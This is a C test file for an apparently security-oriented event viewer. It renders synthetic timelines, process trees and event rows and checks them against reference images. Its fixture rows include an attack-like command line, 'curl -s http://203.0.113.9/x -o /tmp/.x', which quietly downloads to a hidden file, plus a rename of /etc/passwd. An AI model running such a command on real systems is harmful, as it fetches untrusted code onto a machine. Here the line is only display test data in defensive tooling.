/* Pictures of made-up recordings against references. A reference is the picture averaged over squares of 8 pixels, so
 * that a library that places a glyph a little differently does not matter, but a lane, a bar or a colour does.
 * `test-pictures --regenerate` writes the references anew: look at the pictures it names before committing them. */
#include "tests/unit/test.h"

#include <cairo.h>
#include <errno.h>
#include <math.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#include "agent/base/cleanup.h"
#include "tests/unit/timeline/synthetic.h"
#include "timeline/view/render.h"
#include "timeline/view/timeline-draw.h"
#include "timeline/view/timeline-overlay.h"
#include "timeline/view/tree-stage.h"

#define FONTS "/usr/share/fonts/truetype/dejavu"
enum { SQUARE = 8 };

static char directory[] = "/tmp/spoor-pictures-XXXXXX";
static bool regenerate;
static const char *references;

/* Sans and Monospace are DejaVu here, whatever the machine prefers. */
static void choose_fonts(void)
{
	char path[64];
	FILE *f;

	snprintf(path, sizeof(path), "%s/fonts.conf", directory);
	f = fopen(path, "w");
	assert_non_null(f);
	fputs("<?xml version='1.0'?><!DOCTYPE fontconfig SYSTEM 'fonts.dtd'><fontconfig><dir>" FONTS "</dir>"
	      "<alias><family>Sans</family><prefer><family>DejaVu Sans</family></prefer></alias>"
	      "<alias><family>Monospace</family><prefer><family>DejaVu Sans Mono</family></prefer></alias>"
	      "<match target='font'><edit name='hintstyle' mode='assign'><const>hintnone</const></edit></match>"
	      "</fontconfig>", f);
	fclose(f);
	setenv("FONTCONFIG_FILE", path, 1);
}

static void average(cairo_surface_t *from, int x, int y, double ret[3])
{
	int w = cairo_image_surface_get_width(from), h = cairo_image_surface_get_height(from), n = 0;

	ret[0] = ret[1] = ret[2] = 0;
	for (int j = y * SQUARE; j < (y + 1) * SQUARE && j < h; j++) {
		const uint32_t *row = (const uint32_t *)(const void *)(cairo_image_surface_get_data(from) +
		                                                       (size_t)j * (size_t)cairo_image_surface_get_stride(from));

		for (int i = x * SQUARE; i < (x + 1) * SQUARE && i < w; i++, n++)
			for (int c = 0; c < 3; c++)
				ret[c] += row[i] >> (16 - 8 * c) & 255;
	}
	for (int c = 0; c < 3; c++)
		ret[c] /= n ? n : 1;
}

static cairo_surface_t *shrink(cairo_surface_t *from)
{
	int w = (cairo_image_surface_get_width(from) + SQUARE - 1) / SQUARE;
	int h = (cairo_image_surface_get_height(from) + SQUARE - 1) / SQUARE;
	cairo_surface_t *to = cairo_image_surface_create(CAIRO_FORMAT_RGB24, w, h);

	for (int y = 0; y < h; y++) {
		uint32_t *row = (uint32_t *)(void *)(cairo_image_surface_get_data(to) +
		                                     (size_t)y * (size_t)cairo_image_surface_get_stride(to));

		for (int x = 0; x < w; x++) {
			double c[3];

			average(from, x, y, c);
			row[x] = (uint32_t)c[0] << 16 | (uint32_t)c[1] << 8 | (uint32_t)c[2];
		}
	}
	cairo_surface_mark_dirty(to);
	return to;
}

static double difference(uint32_t a, uint32_t b)
{
	double most = 0;

	for (int shift = 0; shift < 24; shift += 8)
		most = fmax(most, fabs((double)(a >> shift & 255) - (double)(b >> shift & 255)));
	return most;
}

static void compare(const char *name, cairo_surface_t *got, cairo_surface_t *want)
{
	int w = cairo_image_surface_get_width(got), h = cairo_image_surface_get_height(got), far = 0;
	double sum = 0;

	assert_int_equal(cairo_surface_status(want), CAIRO_STATUS_SUCCESS);
	assert_int_equal(cairo_image_surface_get_width(want), w);
	assert_int_equal(cairo_image_surface_get_height(want), h);
	for (int y = 0; y < h; y++) {
		const unsigned char *a = cairo_image_surface_get_data(got), *b = cairo_image_surface_get_data(want);
		size_t sa = (size_t)cairo_image_surface_get_stride(got), sb = (size_t)cairo_image_surface_get_stride(want);

		for (int x = 0; x < w; x++) {
			double d = difference(((const uint32_t *)(const void *)(a + (size_t)y * sa))[x],
			                      ((const uint32_t *)(const void *)(b + (size_t)y * sb))[x]);

			sum += d;
			far += d > 48;
		}
	}
	print_message("# %s: mean difference %.2f, %d of %d squares far off\n", name, sum / (w * h), far, w * h);
	assert_true(sum / (w * h) < 4);
	assert_true(far * 250 <= w * h);
}

/* `path` has been drawn: against its reference. */
static void check(const char *name, const char *path)
{
	cairo_surface_t *picture = cairo_image_surface_create_from_png(path), *small, *want;
	char reference[4096];

	assert_int_equal(cairo_surface_status(picture), CAIRO_STATUS_SUCCESS);
	snprintf(reference, sizeof(reference), "%s/%s.png", references, name);
	small = shrink(picture);
	if (regenerate) {
		assert_int_equal(cairo_surface_write_to_png(small, reference), CAIRO_STATUS_SUCCESS);
		print_message("# %s from %s\n", reference, path);
	} else {
		want = cairo_image_surface_create_from_png(reference);
		compare(name, small, want);
		cairo_surface_destroy(want);
		unlink(path);
	}
	cairo_surface_destroy(small);
	cairo_surface_destroy(picture);
}

static void draw_timeline(const char *name, const struct synthetic *s, bool whole, struct render_options o)
{
	struct reader_timeline t = synthetic_timeline(s, s->range, 1000);
	char path[128];

	if (whole)
		t.n_children = 0;
	snprintf(path, sizeof(path), "%s/%s.png", directory, name);
	assert_int_equal(render_timeline(whole ? NULL : &s->process, s->range, s->gaps, s->n_gaps, &t, &o, path, RENDER_PNG),
	                 0);
	check(name, path);
	synthetic_timeline_free(&t);
}

static void timelines_look_as_they_should(void **state)
{
	struct synthetic *story = synthetic_story(), *many = synthetic_many(2000, 100000, 3);

	draw_timeline("timeline-story-light", story, false, (struct render_options){ .title = "curl 4711 on web-03" });
	draw_timeline("timeline-story-dark-2x", story, false, (struct render_options){ .dark = true, .scale = 2 });
	draw_timeline("timeline-many-dark", many, false, (struct render_options){ .dark = true });
	draw_timeline("timeline-whole-light", many, true, (struct render_options){ 0 });
	synthetic_free(story);
	synthetic_free(many);
}

/* What one has made of it: lanes folded and sorted, markers, bookmarks, a search, the legend, and the minimap. */
static void draw_marked(const char *name, bool dark)
{
	struct synthetic *s = synthetic_story();
	struct timeline_stage *t = timeline_stage_new();
	struct reader_timeline d = synthetic_timeline(s, (struct reader_range){ s->range.from_ms - 10000,
	                                              s->range.to_ms + 10000 }, 1000), hits;
	cairo_surface_t *surface = cairo_image_surface_create(CAIRO_FORMAT_RGB24, 1100, 560);
	cairo_t *cr = cairo_create(surface);
	struct theme theme;
	char path[128];

	theme_init(&theme, dark);
	timeline_stage_set_look(t, &theme, NULL, false);
	t->with_minimap = t->with_legend = true;
	timeline_stage_set_size(t, 1100, 560);
	assert_int_equal(timeline_stage_set_subject(t, &s->process, s->range, s->gaps, s->n_gaps), 0);
	assert_int_equal(timeline_stage_set_data(t, &d), 0);
	timeline_stage_sort(t, LANES_BY_COUNT);
	t->folded = 1u << EVENT_PROCESS;
	t->marker[0] = s->range.from_ms + 20000;
	t->marker[1] = s->range.from_ms + 85000;
	timeline_stage_add_bookmark(t, s->range.from_ms + 61000, "the daemon starts");
	timeline_stage_add_bookmark(t, s->range.from_ms + 150000, NULL);
	scale_set_range(&t->scale, s->range.from_ms, s->range.from_ms + 180000);
	hits = synthetic_timeline(s, (struct reader_range){ s->range.from_ms + 120000, s->range.from_ms + 130000 }, 400);
	assert_int_equal(timeline_stage_set_hits(t, &hits.bins), 0);
	timeline_stage_update(t);
	timeline_draw_content(t, cr);
	timeline_overlay_draw(t, cr);
	snprintf(path, sizeof(path), "%s/%s.png", directory, name);
	assert_int_equal(cairo_surface_write_to_png(surface, path), CAIRO_STATUS_SUCCESS);
	check(name, path);
	cairo_destroy(cr);
	cairo_surface_destroy(surface);
	synthetic_timeline_free(&hits);
	synthetic_timeline_free(&d);
	timeline_stage_free(t);
	synthetic_free(s);
}

/* A recording by program: the same bins, thinned out, for each. */
static void groups_look_as_they_should(void **state)
{
	static const char *const names[] = { "/usr/bin/python3.11", "/usr/sbin/sshd", NULL,
		                              "/usr/lib/a-very-long/path/to/x", "sh" };
	struct synthetic *s = synthetic_many(10, 20000, 3);
	struct reader_timeline d = synthetic_timeline(s, s->range, 400);
	struct timeline_stage *t = timeline_stage_new();
	struct reader_lane lanes[5];
	struct reader_lanes l = { .from_ms = d.bins.from_ms, .bin_ms = d.bins.bin_ms, .n_bins = d.bins.n_bins, .lanes = lanes,
		                  .n = 5 };
	cairo_surface_t *surface = cairo_image_surface_create(CAIRO_FORMAT_RGB24, 1000, 420);
	cairo_t *cr = cairo_create(surface);
	struct theme theme;
	char path[128];

	theme_init(&theme, true);
	timeline_stage_set_look(t, &theme, NULL, false);
	t->with_minimap = true;
	timeline_stage_set_size(t, 1000, 420);
	timeline_stage_set_subject(t, NULL, s->range, s->gaps, s->n_gaps);
	for (size_t i = 0; i < 5; i++) {
		size_t n = l.n_bins * EVENT_CATEGORY_COUNT;

		lanes[i] = (struct reader_lane){ .name = names[i] ? span_of(names[i]) : SPAN_NONE, .total = 100000 >> (3 * i),
			                         .counts = calloc(n, sizeof(uint64_t)) };
		for (size_t k = 0; k < n; k++)
			lanes[i].counts[k] = k / EVENT_CATEGORY_COUNT % (i * 7 + 1) ? 0 : d.bins.counts[k];
	}
	assert_int_equal(timeline_stage_set_lanes(t, &l), 0);
	t->groups[1].folded = true;
	timeline_stage_update(t);
	timeline_draw_content(t, cr);
	timeline_overlay_draw(t, cr);
	snprintf(path, sizeof(path), "%s/timeline-groups-dark.png", directory);
	assert_int_equal(cairo_surface_write_to_png(surface, path), CAIRO_STATUS_SUCCESS);
	check("timeline-groups-dark", path);
	for (size_t i = 0; i < 5; i++)
		free(lanes[i].counts);
	cairo_destroy(cr);
	cairo_surface_destroy(surface);
	synthetic_timeline_free(&d);
	timeline_stage_free(t);
	synthetic_free(s);
}

static void marked_timelines_look_as_they_should(void **state)
{
	draw_marked("timeline-marked-light", false);
	draw_marked("timeline-marked-dark", true);
}

static void draw_tree(const char *name, size_t children, bool deep, struct render_options o)
{
	struct reader_tree t = synthetic_tree(children, deep);
	char path[128];

	snprintf(path, sizeof(path), "%s/%s.png", directory, name);
	assert_int_equal(render_tree(&t, &o, path, RENDER_PNG), 0);
	check(name, path);
	synthetic_tree_free(&t);
}

static void trees_look_as_they_should(void **state)
{
	draw_tree("tree-small-light", 8, false, (struct render_options){ 0 });
	draw_tree("tree-deep-dark-2x", 30, true, (struct render_options){ .dark = true, .scale = 2 });
	draw_tree("tree-huge-light", 20000, true, (struct render_options){ .width = 1280, .height = 700 });
}

/* Folded, searched, coloured by user, as it was at an instant, with what is said of every node. */
static void draw_marked_tree(const char *name, bool dark, int64_t instant)
{
	struct reader_tree tree = synthetic_tree(12, true);
	struct tree_stage *t = tree_stage_new();
	cairo_surface_t *surface = cairo_image_surface_create(CAIRO_FORMAT_RGB24, 1280, 620);
	cairo_t *cr = cairo_create(surface);
	struct theme theme;
	char path[128];

	tree.nodes[3].user = tree.nodes[8].user = SPAN("alice");
	theme_init(&theme, dark);
	tree_stage_set_look(t, &theme, NULL);
	tree_stage_set_size(t, 1280, 620);
	assert_int_equal(tree_stage_set_tree(t, &tree), 0);
	t->colour = TREE_BY_USER;
	t->note = g_strdup("from 203.0.113.9");
	assert_int_equal(tree_stage_toggle(t, treelayout_find(&t->layout, &t->tree, 1001)), 0);
	assert_int_equal(tree_stage_set_instant(t, instant), 0);
	tree_stage_find(t, "python3");
	t->zoom = 1;
	tree_stage_centre(t, t->layout.self);
	tree_draw(t, cr);
	snprintf(path, sizeof(path), "%s/%s.png", directory, name);
	assert_int_equal(cairo_surface_write_to_png(surface, path), CAIRO_STATUS_SUCCESS);
	check(name, path);
	cairo_destroy(cr);
	cairo_surface_destroy(surface);
	tree_stage_free(t);
	synthetic_tree_free(&tree);
}

static void marked_trees_look_as_they_should(void **state)
{
	draw_marked_tree("tree-marked-light", false, TREELAYOUT_ALWAYS);
	draw_marked_tree("tree-instant-dark", true, INT64_C(1795164840000) + 14000);
}

static void fill_rows(struct reader_row *rows, size_t n, const struct synthetic *s)
{
	static const struct { int action; const char *object; int port; } kinds[] = {
		{ ACTION_PROCESS_CREATE, "/usr/bin/curl", 0 }, { ACTION_FILE_CREATE, "/tmp/.x", 0 },
		{ ACTION_FILE_WRITE, "/var/lib/a/long/path/that/goes/on/through/many/directories/to/a/file-name.conf", 0 },
		{ ACTION_FILE_RENAME, "/etc/passwd", 0 }, { ACTION_NETWORK_CONNECT, "203.0.113.9", 443 },
		{ ACTION_NETWORK_CONNECT_FAILED, "2001:db8::1", 443 }, { ACTION_SECURITY_AUTHENTICATION, NULL, 0 },
		{ ACTION_PROCESS_EXIT, NULL, 0 }, { 999, "un\x01known \xff\xe2\x80\xae", 0 },
	};

	for (size_t i = 0; i < n; i++) {
		size_t k = i % ARRAY_LEN(kinds);

		rows[i] = (struct reader_row){ .time_ms = s->range.from_ms + (int64_t)i * 1234, .action = kinds[k].action,
			.category = event_action_category(kinds[k].action), .object = span_of(kinds[k].object),
			.port = kinds[k].port, .executable = SPAN("/usr/bin/python3.11"), .user = SPAN("www-data"),
			.command_line = SPAN("curl -s http://203.0.113.9/x -o /tmp/.x"), .count = i == 2 ? 37 : 1,
			.object2 = k == 3 ? SPAN("/etc/passwd.bak") : SPAN_NONE };
	}
}

static void rows_look_as_they_should(void **state)
{
	struct synthetic *s = synthetic_story();
	struct reader_timeline t = synthetic_timeline(s, s->range, 600);
	struct reader_row rows[18];
	struct reader_page page = { .rows = rows, .n = 18 };
	struct reader_count count = { .total = 1234567, .by_category = { 0, 41000, 1183000, 10567, 0, 0, 0 } };
	struct reader_info info = { .host = SPAN("web-03"), .first_ms = s->range.from_ms, .last_ms = s->range.to_ms,
		                    .events = 5012334, .processes = 41231, .gaps = s->gaps, .n_gaps = 2 };
	struct render_options o = { 0 };
	char path[128];

	fill_rows(rows, 18, s);
	snprintf(path, sizeof(path), "%s/rows-light.png", directory);
	assert_int_equal(render_rows(&info, &t.bins, &page, &count, "process.executable contains \"curl\"", &o, path,
	                             RENDER_PNG), 0);
	check("rows-light", path);
	page.n = 0;
	info.n_gaps = 0;
	o.dark = true;
	snprintf(path, sizeof(path), "%s/rows-empty-dark.png", directory);
	assert_int_equal(render_rows(&info, NULL, &page, &(struct reader_count){ 0 }, NULL, &o, path, RENDER_PNG), 0);
	check("rows-empty-dark", path);
	synthetic_timeline_free(&t);
	synthetic_free(s);
}

static void begins_with(const char *path, const char *magic)
{
	char head[8] = "";
	FILE *f = fopen(path, "r");

	assert_non_null(f);
	assert_true(fread(head, 1, strlen(magic), f) == strlen(magic));
	assert_memory_equal(head, magic, strlen(magic));
	fclose(f);
	assert_int_equal(unlink(path), 0);
}

static void every_format_is_written_whole_or_not(void **state)
{
	struct reader_tree t = synthetic_tree(8, false);
	struct render_options o = { .title = "tree" };
	enum render_format format = RENDER_PNG;
	struct stat st;
	char path[128];

	assert_int_equal(render_format_of("a/b.SVG", &format), 0);
	assert_int_equal(format, RENDER_SVG);
	assert_int_equal(render_format_of("x.pdf", &format), 0);
	assert_int_equal(format, RENDER_PDF);
	assert_int_equal(render_format_of("x.gif", &format), -EINVAL);
	assert_int_equal(render_format_of(".png", &format), -EINVAL);
	snprintf(path, sizeof(path), "%s/out", directory);
	assert_int_equal(render_tree(&t, &o, path, RENDER_PNG), 0);
	begins_with(path, "\x89PNG");
	assert_int_equal(render_tree(&t, &o, path, RENDER_SVG), 0);
	begins_with(path, "<?xml");
	assert_int_equal(render_tree(&t, &o, path, RENDER_PDF), 0);
	begins_with(path, "%PDF-");
	o.width = 1 << 20;
	assert_int_equal(render_tree(&t, &o, path, RENDER_PNG), -EINVAL);
	assert_int_equal(stat(path, &st), -1);
	o.width = 0;
	assert_int_equal(render_tree(&t, &o, "/nonexistent/out.png", RENDER_PNG), -ENOENT);
	t.n = 0;
	assert_int_equal(render_tree(&t, &o, path, RENDER_PNG), -EINVAL);
	assert_int_equal(stat(path, &st), -1);
	synthetic_tree_free(&t);
}

/* What fontconfig, GTK and their drivers keep to the end of the program is not ours to free. */
const char *__lsan_default_suppressions(void);
const char *__lsan_default_suppressions(void)
{
	return "leak:libfontconfig\nleak:libgtk-3\nleak:libgdk-3\nleak:libpango\nleak:librsvg\nleak:libgio\nleak:libX11\n";
}

int main(int argc, char **argv)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(timelines_look_as_they_should),
		cmocka_unit_test(groups_look_as_they_should),
		cmocka_unit_test(marked_timelines_look_as_they_should),
		cmocka_unit_test(trees_look_as_they_should),
		cmocka_unit_test(marked_trees_look_as_they_should),
		cmocka_unit_test(rows_look_as_they_should),
		cmocka_unit_test(every_format_is_written_whole_or_not),
	};
	char conf[64];
	int failed;

	references = argc > 1 ? argv[1] : "pictures";
	regenerate = argc > 2 && strcmp(argv[2], "--regenerate") == 0;
	if (access(FONTS "/DejaVuSansMono.ttf", R_OK) != 0) {
		printf("no DejaVu fonts in " FONTS ": skipped\n");
		return 77;
	}
	if (!mkdtemp(directory))
		return 1;
	choose_fonts();
	failed = cmocka_run_group_tests(tests, NULL, NULL);
	if (!regenerate) {
		snprintf(conf, sizeof(conf), "%s/fonts.conf", directory);
		unlink(conf);
		rmdir(directory);
	}
	return failed;
}
